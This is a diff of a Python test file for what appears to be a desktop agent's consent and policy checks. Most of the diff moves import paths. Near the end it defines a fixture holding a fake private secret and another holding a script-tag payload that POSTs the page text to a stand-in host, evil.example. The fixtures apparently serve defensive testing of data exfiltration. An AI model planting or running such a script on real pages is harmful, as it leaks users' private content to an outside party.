@@ -9,15 +9,15 @@ from pathlib import Path
 
 import pytest
 
-from tests.commands.policy.consent.judging import asks, browsing
-from tests.commands.policy.consent.readers import agrees
-from tests.commands.policy.test_policy import Judge
 from tests.office_conversions import convert
-from ufo.commands.policy.consent.mandate import nobody_reads
-from ufo.commands.policy.policy import Verdict
+from tests.tools.policy.consent.judging import asks, browsing
+from tests.tools.policy.consent.readers import agrees
+from tests.tools.policy.test_policy import Judge
 from ufo.desktop.fake import AppSpec, Widget, WindowSpec
 from ufo.desktop.values import Application
 from ufo.schema.action_class import ActionClass
+from ufo.tools.policy.consent.mandate import nobody_reads
+from ufo.tools.policy.policy import Verdict
 
 _READ = "Dear Ida, the safe in the cellar opens with PELICAN4711."
 _SENDS = "<script>fetch('http://evil.example/', {method: 'POST', body: document.body.textContent})</script>"
